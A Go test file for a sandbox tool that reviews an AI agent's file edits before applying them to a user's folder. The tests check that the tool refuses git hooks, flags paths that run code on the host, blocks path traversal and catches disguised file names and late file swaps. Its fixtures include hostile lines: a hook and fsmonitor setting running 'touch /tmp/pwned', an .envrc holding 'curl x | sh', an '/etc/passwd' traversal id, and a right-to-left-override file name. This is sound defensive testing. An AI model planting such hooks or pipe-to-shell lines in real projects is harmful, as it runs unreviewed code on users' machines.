package projects

import (
	"context"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/osaurus/osaurus-sandbox/agents"
	"github.com/osaurus/osaurus-sandbox/config"
)

func TestHostExecAndGit(t *testing.T) {
	tests := []struct {
		path      string
		exec, git bool
	}{
		{"README.md", false, false},
		{".bashrc", true, false},
		{"sub/.ZSHRC", true, false},
		{".envrc", true, false},
		{".vscode/tasks.json", true, false},
		{"a/.VSCode/settings.json", true, false},
		{".vscode", false, false}, // a file named like the folder is no folder of it
		{".github/workflows/ci.yml", true, false},
		{".github/CODEOWNERS", false, false},
		{".gitattributes", true, false},
		{".husky/pre-commit", true, false},
		{".idea/workspace.xml", true, false},
		{".git/hooks/post-checkout", false, true},
		{".git/config", false, true},
		{"sub/.GIT/config", false, true},
		{".git", false, true},
		{".gitignore", false, false},
		{"src/bashrc", false, false},
	}
	for _, tt := range tests {
		if got := hostExec(tt.path) != ""; got != tt.exec {
			t.Errorf("hostExec(%q) = %v, want %v", tt.path, got, tt.exec)
		}
		if got := gitInternal(tt.path); got != tt.git {
			t.Errorf("gitInternal(%q) = %v, want %v", tt.path, got, tt.git)
		}
	}
}

func TestSafeNameAndShown(t *testing.T) {
	tests := []struct {
		name, shown string
		safe        bool
	}{
		{"ok.txt", "ok.txt", true},
		{"café/naïve.md", "café/naïve.md", true},
		{"a\rb", `a\rb`, false},
		{"x\x1b[2Kx", `x\x1b[2Kx`, false},
		{"evil\u202etxt.exe", `evil\u202etxt.exe`, false},
		{"tab\tname", `tab\tname`, false},
		{"new\nline", `new\nline`, false},
		{"bad\xffutf8", `bad\xffutf8`, false},
		{"c1\u009bx", `c1\u009bx`, false},
	}
	for _, tt := range tests {
		if got := safeName(tt.name); got != tt.safe {
			t.Errorf("safeName(%q) = %v, want %v", tt.name, got, tt.safe)
		}
		if got := Shown(tt.name); got != tt.shown {
			t.Errorf("Shown(%q) = %q, want %q", tt.name, got, tt.shown)
		}
	}
}

func TestValidReviewID(t *testing.T) {
	for id, want := range map[string]bool{
		"0123456789abcdef0123456789abcdef": true,
		"0123456789ABCDEF0123456789abcdef": false,
		"../../../../etc/passwd0000000000": false,
		"":                                 false,
		"0123456789abcdef":                 false,
	} {
		if validReviewID(id) != want {
			t.Errorf("validReviewID(%q) = %v", id, !want)
		}
	}
}

// fixture is a project with a view taken for agent A.
func fixture(t *testing.T, files map[string]string) (Views, agents.Agent, Project, string, string) {
	t.Helper()
	root := t.TempDir()
	paths := config.Paths{Root: filepath.Join(root, "data")}
	src := filepath.Join(root, "repo")
	for n, c := range files {
		write(t, filepath.Join(src, n), c)
	}
	os.MkdirAll(src, 0o755)
	p, err := Add(paths.ProjectsJSON(), src, "repo", paths.Root)
	if err != nil {
		t.Fatal(err)
	}
	v := Views{Paths: paths, Chown: func(string, int, int) error { return nil }}
	a := agents.Agent{ID: "id-a", Name: "A", Slug: "a"}
	if err := v.Ensure(context.Background(), a, p); err != nil {
		t.Fatal(err)
	}
	return v, a, p, src, v.Dir(a, p.Name)
}

func changeOf(cs *ChangeSet, path string) *Change {
	for i := range cs.Changes {
		if cs.Changes[i].Path == path {
			return &cs.Changes[i]
		}
	}
	return nil
}

func skippedPaths(s []Skipped) []string {
	var out []string
	for _, x := range s {
		out = append(out, x.Path)
	}
	slices.Sort(out)
	return out
}

// Apply writes what was reviewed: a file changed after the review, one
// added after it and one deleted from the view after it are refused and
// listed; the reviewed rest is written.
func TestApplyExactlyTheReview(t *testing.T) {
	ctx := context.Background()
	v, a, p, src, view := fixture(t, map[string]string{"a.txt": "a\n", "b.txt": "b\n", "c.txt": "c\n"})
	write(t, filepath.Join(view, "a.txt"), "reviewed a\n")
	write(t, filepath.Join(view, "b.txt"), "reviewed b\n")
	write(t, filepath.Join(view, "new.txt"), "reviewed new\n")
	cs, err := v.Changes(ctx, a, p)
	if err != nil {
		t.Fatal(err)
	}
	if len(cs.Review) != 32 {
		t.Fatalf("review id %q", cs.Review)
	}
	// After the user read it: b changes (same size), new.txt goes, d appears.
	write(t, filepath.Join(view, "b.txt"), "EVIL!!!! b\n")
	os.Remove(filepath.Join(view, "new.txt"))
	write(t, filepath.Join(view, "late.txt"), "late\n")
	r, err := v.Apply(ctx, a, p, ApplyOptions{Review: cs.Review})
	if err != nil {
		t.Fatal(err)
	}
	if !slices.Equal(r.Done, []string{"a.txt"}) || !slices.Equal(skippedPaths(r.Changed), []string{"b.txt", "late.txt", "new.txt"}) {
		t.Fatalf("apply: %+v", r)
	}
	if read(t, filepath.Join(src, "b.txt")) != "b\n" || read(t, filepath.Join(src, "a.txt")) != "reviewed a\n" {
		t.Fatal("apply wrote what was not reviewed")
	}
	for _, n := range []string{"late.txt", "new.txt"} {
		if _, err := os.Lstat(filepath.Join(src, n)); !os.IsNotExist(err) {
			t.Fatalf("%s reached the folder", n)
		}
	}
	// A review of another agent, a made-up id or a path outside it is refused.
	for _, o := range []ApplyOptions{{}, {Review: "0123456789abcdef0123456789abcdef"}, {Review: "../../x"}, {Review: cs.Review, Paths: []string{"late.txt"}}} {
		if _, err := v.Apply(ctx, a, p, o); err == nil || !strings.Contains(err.Error(), "review") && !strings.Contains(err.Error(), "paths") {
			t.Errorf("apply %+v: %v", o, err)
		}
	}
}

// The bytes written are the bytes hashed: a file swapped between the
// scan's hash and the copy is caught by the copy's own hash.
func TestWriteCheckedRefusesOtherBytes(t *testing.T) {
	ctx := context.Background()
	v, a, p, src, view := fixture(t, map[string]string{"a.txt": "a\n"})
	write(t, filepath.Join(view, "a.txt"), "good\n")
	cs, _ := v.Changes(ctx, a, p)
	e := ReviewEntry{Path: "a.txt", Kind: Modified, Type: TypeFile, Mode: 0o644, Size: 5, Hash: hashBytes([]byte("evil\n"))}
	vd, err := openTop(view)
	if err != nil {
		t.Fatal(err)
	}
	defer vd.Close()
	host, _ := os.OpenRoot(src)
	defer host.Close()
	if _, err := writeChecked(ctx, vd, host, e, owner{-1, -1}); err != errChanged {
		t.Fatalf("writeChecked of other bytes: %v", err)
	}
	if read(t, filepath.Join(src, "a.txt")) != "a\n" {
		t.Fatal("other bytes written")
	}
	ents, _ := os.ReadDir(src)
	for _, d := range ents {
		if strings.HasPrefix(d.Name(), ".osaurus-apply-") {
			t.Fatalf("temporary file left: %s", d.Name())
		}
	}
	_ = cs
}

// Git's own files are never applied; paths that run code on the host
// need their own confirmation.
func TestGitAndHostExecPaths(t *testing.T) {
	ctx := context.Background()
	v, a, p, src, view := fixture(t, map[string]string{"a.txt": "a\n", ".git/config": "[core]\n"})
	write(t, filepath.Join(view, ".git/hooks/post-checkout"), "#!/bin/sh\ntouch /tmp/pwned\n")
	os.Chmod(filepath.Join(view, ".git/hooks/post-checkout"), 0o755)
	write(t, filepath.Join(view, ".git/config"), "[core]\n\tfsmonitor = touch /tmp/pwned\n")
	write(t, filepath.Join(view, ".vscode/tasks.json"), `{"tasks":[{"runOn":"folderOpen"}]}`)
	write(t, filepath.Join(view, ".envrc"), "curl x | sh\n")
	cs, err := v.Changes(ctx, a, p)
	if err != nil {
		t.Fatal(err)
	}
	for _, n := range []string{".git/hooks/post-checkout", ".git/config"} {
		if c := changeOf(cs, n); c == nil || !strings.Contains(c.Refused, ".git") {
			t.Fatalf("%s: %+v", n, c)
		}
	}
	for _, n := range []string{".vscode/tasks.json", ".envrc"} {
		if c := changeOf(cs, n); c == nil || c.HostExec == "" || c.Refused != "" {
			t.Fatalf("%s: %+v", n, c)
		}
	}
	r, err := v.Apply(ctx, a, p, ApplyOptions{Review: cs.Review})
	if err != nil {
		t.Fatal(err)
	}
	if len(r.Done) != 0 || len(r.Refused) != 4 {
		t.Fatalf("apply without confirmation: %+v", r)
	}
	r, err = v.Apply(ctx, a, p, ApplyOptions{Review: cs.Review, AllowHostExec: true})
	if err != nil {
		t.Fatal(err)
	}
	if !slices.Equal(r.Done, []string{".envrc", ".vscode/tasks.json"}) {
		t.Fatalf("apply with confirmation: %+v", r)
	}
	if read(t, filepath.Join(src, ".git/config")) != "[core]\n" {
		t.Fatal(".git/config applied")
	}
	if _, err := os.Lstat(filepath.Join(src, ".git/hooks")); !os.IsNotExist(err) {
		t.Fatal("a hook applied")
	}
}

// A FIFO in the view neither blocks Changes nor Apply; a FIFO swapped in
// for a reviewed file is refused.
func TestFIFONeverBlocks(t *testing.T) {
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	v, a, p, src, view := fixture(t, map[string]string{"a.txt": "a\n"})
	write(t, filepath.Join(view, "a.txt"), "b\n")
	if err := syscall.Mkfifo(filepath.Join(view, "pipe"), 0o644); err != nil {
		t.Fatal(err)
	}
	cs, err := v.Changes(ctx, a, p)
	if err != nil {
		t.Fatal(err)
	}
	if c := changeOf(cs, "pipe"); c == nil || c.Refused == "" {
		t.Fatalf("fifo: %+v", c)
	}
	os.Remove(filepath.Join(view, "a.txt"))
	if err := syscall.Mkfifo(filepath.Join(view, "a.txt"), 0o644); err != nil {
		t.Fatal(err)
	}
	vd, _ := openTop(view)
	defer vd.Close()
	host, _ := os.OpenRoot(src)
	defer host.Close()
	e := ReviewEntry{Path: "a.txt", Kind: Modified, Type: TypeFile, Mode: 0o644, Size: 2, Hash: hashBytes([]byte("b\n"))}
	if _, err := writeChecked(ctx, vd, host, e, owner{-1, -1}); err == nil {
		t.Fatal("a fifo was written")
	}
	r, err := v.Apply(ctx, a, p, ApplyOptions{Review: cs.Review})
	if err != nil || len(r.Done) != 0 {
		t.Fatalf("apply over a fifo: %+v %v", r, err)
	}
	if ctx.Err() != nil {
		t.Fatal("blocked")
	}
}

// A sparse file bigger than MaxFileSize is refused without being read;
// one above LargeFile needs its own confirmation.
func TestBigAndSparseFiles(t *testing.T) {
	ctx := context.Background()
	v, a, p, src, view := fixture(t, map[string]string{"a.txt": "a\n"})
	huge, _ := os.Create(filepath.Join(view, "huge.img"))
	if err := huge.Truncate(1 << 40); err != nil {
		t.Fatal(err)
	}
	huge.Close()
	big, _ := os.Create(filepath.Join(view, "big.img"))
	big.Truncate(LargeFile + 1)
	big.Close()
	start := time.Now()
	cs, err := v.Changes(ctx, a, p)
	if err != nil {
		t.Fatal(err)
	}
	if c := changeOf(cs, "huge.img"); c == nil || !strings.Contains(c.Refused, "too big") || c.Hash != "" {
		t.Fatalf("huge: %+v", c)
	}
	if c := changeOf(cs, "big.img"); c == nil || !c.Large || c.Refused != "" {
		t.Fatalf("big: %+v", c)
	}
	if d := time.Since(start); d > 30*time.Second {
		t.Fatalf("review took %v", d)
	}
	r, err := v.Apply(ctx, a, p, ApplyOptions{Review: cs.Review})
	if err != nil || len(r.Done) != 0 || len(r.Refused) != 2 {
		t.Fatalf("apply: %+v %v", r, err)
	}
	if _, err := os.Lstat(filepath.Join(src, "huge.img")); !os.IsNotExist(err) {
		t.Fatal("the sparse file was written")
	}
	// Cancelled, hashing stops.
	cctx, cancel := context.WithCancel(ctx)
	cancel()
	if _, err := v.changes(cctx, a, p, false); err == nil {
		t.Fatal("a cancelled review went on")
	}
}

// Two names that fold together are refused, never applied in sequence.
func TestCaseFoldCollisions(t *testing.T) {
	ctx := context.Background()
	v, a, p, src, view := fixture(t, map[string]string{"README.md": "r\n", "x.txt": "x\n"})
	os.Rename(filepath.Join(view, "README.md"), filepath.Join(view, "readme.md"))
	write(t, filepath.Join(view, "X.TXT"), "other\n")
	write(t, filepath.Join(view, "ok.txt"), "ok\n")
	cs, err := v.Changes(ctx, a, p)
	if err != nil {
		t.Fatal(err)
	}
	for _, n := range []string{"README.md", "readme.md", "X.TXT"} {
		if c := changeOf(cs, n); c == nil || !strings.Contains(c.Refused, "case") {
			t.Fatalf("%s: %+v", n, c)
		}
	}
	r, err := v.Apply(ctx, a, p, ApplyOptions{Review: cs.Review})
	if err != nil || !slices.Equal(r.Done, []string{"ok.txt"}) {
		t.Fatalf("apply: %+v %v", r, err)
	}
	if read(t, filepath.Join(src, "README.md")) != "r\n" {
		t.Fatal("README.md deleted")
	}
}

// Unsafe names are refused at review time; diffs come escaped.
func TestUnsafeNamesAndDiffs(t *testing.T) {
	ctx := context.Background()
	v, a, p, _, view := fixture(t, map[string]string{"a.txt": "a\n"})
	write(t, filepath.Join(view, "evil\u202etxt.sh"), "x\n")
	write(t, filepath.Join(view, "a.txt"), "ok\rEVIL\x1b[2K\n")
	cs, err := v.Changes(ctx, a, p)
	if err != nil {
		t.Fatal(err)
	}
	if c := changeOf(cs, "evil\u202etxt.sh"); c == nil || c.Refused != unsafeNameReason {
		t.Fatalf("bidi name: %+v", c)
	}
	c := changeOf(cs, "a.txt")
	if c == nil || strings.ContainsAny(c.Diff, "\r\x1b") || !strings.Contains(c.Diff, `ok\rEVIL\x1b[2K`) {
		t.Fatalf("diff %q", c.Diff)
	}
}

// A view is taken in the staging folder, closed to everyone, and nothing
// of it is left there or beside the view.
func TestTakeStaging(t *testing.T) {
	v, a, p, _, view := fixture(t, map[string]string{"a.txt": "a\n", "d/e/f.txt": "f\n"})
	st, err := os.Lstat(filepath.Join(v.Paths.ProjectViews(), ".staging"))
	if err != nil || st.Mode().Perm() != 0o700 || !st.IsDir() {
		t.Fatalf("staging: %v %v", st.Mode(), err)
	}
	ents, _ := os.ReadDir(filepath.Join(v.Paths.ProjectViews(), ".staging"))
	if len(ents) != 0 {
		t.Fatalf("left in staging: %v", ents)
	}
	ents, _ = os.ReadDir(filepath.Dir(view))
	if len(ents) != 1 || ents[0].Name() != p.Name {
		t.Fatalf("beside the view: %v", ents)
	}
	if st, _ := os.Lstat(view); st.Mode().Perm() != 0o700 {
		t.Fatalf("view mode %v", st.Mode())
	}
	if read(t, filepath.Join(view, "d/e/f.txt")) != "f\n" {
		t.Fatal("copy")
	}
	// A staging folder that is a link is not used.
	os.Remove(filepath.Join(v.Paths.ProjectViews(), ".staging"))
	os.Symlink(t.TempDir(), filepath.Join(v.Paths.ProjectViews(), ".staging"))
	v.Drop(context.Background(), a, p, true)
	if err := v.Ensure(context.Background(), a, p); err == nil {
		t.Fatal("a linked staging folder was used")
	}
}

// A file of the user's too big to hash is no change while its size
// stays: it must not hold up revoking the project.
func TestUsersHugeFileIsNoChange(t *testing.T) {
	ctx := context.Background()
	v, a, p, src, _ := fixture(t, map[string]string{"a.txt": "a\n"})
	f, _ := os.Create(filepath.Join(src, "data.bin"))
	f.Truncate(MaxFileSize + 1)
	f.Close()
	a.DiskGB = 1 << 20 // the sparse file counts whole against the quota when taken
	v.Drop(ctx, a, p, true)
	if err := v.Ensure(ctx, a, p); err != nil {
		t.Fatal(err)
	}
	cs, err := v.Changes(ctx, a, p)
	if err != nil || len(cs.Changes) != 0 {
		t.Fatalf("changes: %+v %v", cs, err)
	}
	if err := v.Drop(ctx, a, p, false); err != nil {
		t.Fatal(err)
	}
}
